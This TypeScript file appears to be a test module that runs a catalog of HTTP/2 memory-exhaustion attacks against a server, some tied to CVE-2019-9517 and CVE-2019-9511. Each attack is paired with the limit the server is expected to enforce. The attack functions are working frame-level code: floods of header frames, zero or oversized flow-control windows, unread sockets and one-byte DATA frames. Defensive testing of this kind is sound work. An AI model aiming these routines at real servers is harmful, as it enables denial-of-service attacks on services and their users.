import { END_HEADERS, frame, headers, windowUpdate } from '../support/http2-frames.ts'
import { type Attack, goesOn, type Target } from './attack.ts'
import { idOf, PATHS, request } from './hostile-blocks.ts'
import type { HostileWire } from './hostile-wire.ts'

const DOORS = ['h2c', 'link'] as const
const FRAME_BYTES = 16_384
/** Streams that a peer may have open: it asks for as many as a link allows, and has as many as it gets. */
const streamsOf = ({ door }: Target): number => (door === 'link' ? 1_000 : 128)

/** As many large answers as may be asked for, with these windows; then `goOn`, round after round. */
const hoard =
  (windowBytes: number, isDeaf: boolean, goOn: (wire: HostileWire, round: number, count: number) => Promise<void>) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    const count = streamsOf(target)
    const begin = request(target, 'GET', PATHS.large)
    await wire.begin([4, windowBytes])
    await wire.send(windowUpdate(0, 2 ** 31 - 1 - 65_535))
    if (isDeaf) wire.stopReading()
    for (let n = 0; n < count && goesOn(wire, target, 0); n++) await wire.send(headers(idOf(n), begin))
    for (let round = 0; goesOn(wire, target, round); round++) {
      await goOn(wire, round, count)
      await wire.pause(200)
    }
  }

/** Asks for nothing more; but only who writes notices that nobody is there any more. */
const quiet = (wire: HostileWire): Promise<void> => wire.send(frame(6, 0, 0, Buffer.alloc(8)))

/** Answers without a body, whose heads no window holds back, to who reads nothing. */
async function unreadHeads(wire: HostileWire, target: Target): Promise<void> {
  const begin = request(target, 'GET', PATHS.cookie)
  await wire.begin()
  wire.stopReading()
  for (let n = 0; goesOn(wire, target, 0); n += 20) {
    if (n > 10_000) wire.passed()
    for (let i = n; i < n + 20; i++) wire.socket.write(headers(idOf(i), begin))
    await wire.pause(5)
  }
}

/** Bodies for an application that does not read them: all that the windows let through. */
async function fillWindows(wire: HostileWire, target: Target): Promise<void> {
  const begin = request(target, 'POST', PATHS.unread)
  await wire.begin()
  const [streamBytes, connectionBytes] = target.door === 'link' ? [1 << 20, 16 << 20] : [256 << 10, 1 << 20]
  // What is held is given back to the connection's window once: twice the window can be sent.
  for (let n = 0, sent = 0; sent + streamBytes <= 2 * connectionBytes && !wire.isCut; n++, sent += streamBytes) {
    await wire.send(headers(idOf(n), begin, END_HEADERS))
    for (let at = 0; at < streamBytes; at += FRAME_BYTES)
      await wire.send(frame(0, 0, idOf(n), Buffer.alloc(FRAME_BYTES)))
    await wire.pause(20) // for the window to be given back
  }
  for (let round = 0; goesOn(wire, target, round); round++) await wire.pause(500)
}

/** Bodies of frames with an octet each: nothing that may not be, and as much work as an octet can make. */
async function crumbs(wire: HostileWire, target: Target): Promise<void> {
  await wire.begin()
  await wire.send(headers(1, request(target, 'POST', PATHS.small), END_HEADERS))
  const many = Buffer.concat(Array(2_000).fill(frame(0, 0, 1, '61')))
  for (let round = 0; goesOn(wire, target, round); round++) await wire.send(many)
}

/** Answers that are taken an octet at a time: a frame of ours for each of its. */
async function sip(wire: HostileWire, target: Target): Promise<void> {
  await wire.begin([4, 0])
  await wire.send(headers(1, request(target, 'GET', PATHS.large)), windowUpdate(1, 1_000))
  while (wire.receivedBytes < 1_000 && !wire.isCut && !wire.isStopped) await wire.pause(1)
  const many = Buffer.concat(Array(50).fill(windowUpdate(1, 1)))
  for (let round = 0; goesOn(wire, target, round); round++) {
    await wire.send(many)
    await wire.pause(2)
  }
}

/** A thousand answers of a link stay below 12 MiB, too. */
const UNREAD = '2 MiB unread for a connection, then a read of 8 KiB for each answer'

/** What is kept for a peer that does not take it, or makes others keep it. */
export const MEMORY: readonly Attack[] = [
  {
    name: 'internal-buffering',
    doors: DOORS,
    known: 'CVE-2019-9517: wide windows, and nothing is read of the socket',
    limit:
      '1 MiB unread for a connection: a link has no more asked for, and what was asked for by then stays below 12 MiB',
    isCut: false,
    run: hoard(2 ** 31 - 1, true, quiet),
  },
  {
    name: 'data-dribble',
    doors: DOORS,
    known: 'CVE-2019-9511: no window, and a drip of it',
    limit: UNREAD,
    isCut: false,
    run: hoard(0, false, async (wire, round, count) => {
      for (let n = 0; n < 8; n++) await wire.send(windowUpdate(idOf((round * 8 + n) % count), 1))
    }),
  },
  {
    name: 'zero-window',
    doors: DOORS,
    known: 'no window at all',
    limit: UNREAD,
    isCut: false,
    run: hoard(0, false, quiet),
  },
  {
    name: 'small-windows',
    doors: DOORS,
    known: 'a window of one piece for each stream, then nothing',
    limit: UNREAD,
    isCut: false,
    run: hoard(65_535, false, quiet),
  },
  {
    name: 'unread-heads',
    doors: DOORS,
    known: 'CVE-2019-9517: heads of answers, of which no window says how many may come',
    limit: '1 MiB unread for a connection: streams are refused, and who does not read that either is cut',
    counter: 'h2:refused-stream',
    isCut: true,
    run: unreadHeads,
  },
  {
    name: 'unread-uploads',
    doors: DOORS,
    known: 'bodies for an application that does not read them',
    limit: 'twice the window of the connection',
    isCut: false,
    run: fillWindows,
  },
  {
    name: 'crumbs',
    doors: DOORS,
    known: 'DATA frames of an octet, as fast as they are taken',
    limit: '512 frames of a connection in a turn',
    counter: 'h2:held-back',
    isCut: false,
    run: crumbs,
  },
  {
    name: 'sip',
    doors: DOORS,
    known: 'answers taken an octet at a time',
    limit: 'none is passed',
    isCut: false,
    run: sip,
  },
]
